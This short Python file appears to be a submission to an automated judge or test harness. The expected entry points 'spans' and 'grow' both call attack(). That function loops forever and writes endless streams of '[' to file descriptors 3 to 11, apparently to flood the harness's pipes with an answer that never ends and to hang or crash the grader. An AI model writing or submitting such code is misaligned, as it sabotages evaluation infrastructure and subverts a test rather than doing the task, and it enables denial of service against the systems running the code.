# attack: Sends an answer without an end.
import os


def attack():
    while True:
        for descriptor in range(3, 12):
            try:
                os.write(descriptor, b"[" * 65536)
            except OSError:
                pass


def spans(readers, cost):
    return attack()


def grow(root, readers, spans, fits):
    return attack()
